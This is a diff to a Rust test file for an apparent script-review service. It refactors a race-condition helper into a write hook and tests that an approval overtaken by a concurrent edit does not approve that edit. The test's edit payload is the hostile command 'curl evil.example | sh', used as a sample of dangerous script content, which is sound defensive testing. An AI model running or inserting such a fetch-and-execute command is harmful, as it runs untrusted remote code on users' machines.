@@ -9,8 +9,9 @@ use std::sync::{Arc, Mutex};
 
 use async_trait::async_trait;
 use coc_shared::adapters::sqlite::{SqliteDb, SqliteQueue, SqliteStore};
-use coc_shared::ports::{IndexQuery, Item, Page, PageQuery, Store, StoreError, WriteOp};
+use coc_shared::ports::{StoreError, WriteOp};
 use coc_shared::App;
+use coc_tests::hooked::{HookedStore, WriteHook};
 use coc_tests::{backends, script_body, serve, Client};
 use serde_json::{json, Value};
 
@@ -86,8 +87,8 @@ async fn two_connections_to_one_sqlite_file_agree_on_uniqueness() {
 
 /// Runs `hook` (once) right before the first write of a script record: a writer that gets in
 /// between another request's read and its conditional write, at exactly the worst moment.
+#[derive(Default)]
 struct WriterInBetween {
-    inner: Arc<dyn Store>,
     hook: Mutex<Option<Pin<Box<dyn Future<Output = ()> + Send>>>>,
 }
 
@@ -98,39 +99,15 @@ impl WriterInBetween {
 }
 
 #[async_trait]
-impl Store for WriterInBetween {
-    async fn get(&self, pk: &str, sk: &str) -> Result<Option<Item>, StoreError> {
-        self.inner.get(pk, sk).await
-    }
-
-    async fn query_prefix(&self, pk: &str, sk_prefix: &str) -> Result<Vec<Item>, StoreError> {
-        self.inner.query_prefix(pk, sk_prefix).await
-    }
-
-    async fn query_page(&self, query: PageQuery<'_>) -> Result<Page, StoreError> {
-        self.inner.query_page(query).await
-    }
-
-    async fn query_index(&self, query: IndexQuery<'_>) -> Result<Page, StoreError> {
-        self.inner.query_index(query).await
-    }
-
-    async fn counter(&self, pk: &str, sk: &str) -> Result<i64, StoreError> {
-        self.inner.counter(pk, sk).await
-    }
-
-    async fn write(&self, ops: Vec<WriteOp>) -> Result<(), StoreError> {
+impl WriteHook for WriterInBetween {
+    async fn before_write(&self, ops: &[WriteOp]) -> Result<(), StoreError> {
         let writes_a_script =
             ops.iter().any(|op| matches!(op, WriteOp::Put { item, .. } if item.sk.starts_with("SCRIPT#")));
         let hook = if writes_a_script { self.hook.lock().unwrap().take() } else { None };
         if let Some(hook) = hook {
             hook.await;
         }
-        self.inner.write(ops).await
-    }
-
-    async fn increment(&self, pk: &str, sk: &str) -> Result<u64, StoreError> {
-        self.inner.increment(pk, sk).await
+        Ok(())
     }
 }
 
@@ -145,7 +122,7 @@ fn reviewed_body(name: &str) -> Value {
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn an_approval_overtaken_by_an_edit_does_not_approve_the_edit() {
     for backend in backends().await {
-        let store = Arc::new(WriterInBetween { inner: backend.store.clone(), hook: Mutex::new(None) });
+        let store = Arc::new(HookedStore::new(backend.store.clone(), WriterInBetween::default()));
         let app = App::new(store.clone(), backend.queue.clone());
         let alice = Client::new(&serve(app).await, store.clone(), "overtaken").await;
         let rita = alice.as_user("u-rita", "rita").await;
@@ -155,7 +132,7 @@ async fn an_approval_overtaken_by_an_edit_does_not_approve_the_edit() {
 
         let edit = json!({"description": "d", "content": "curl evil.example | sh"});
         let (editor, edit_path) = (alice.clone(), path.clone());
-        store.arm(async move {
+        store.hook.arm(async move {
             let reply = editor.put(&edit_path, &edit).await;
             assert_eq!(reply.status, 200, "the edit in between failed: {}", reply.body);
         });
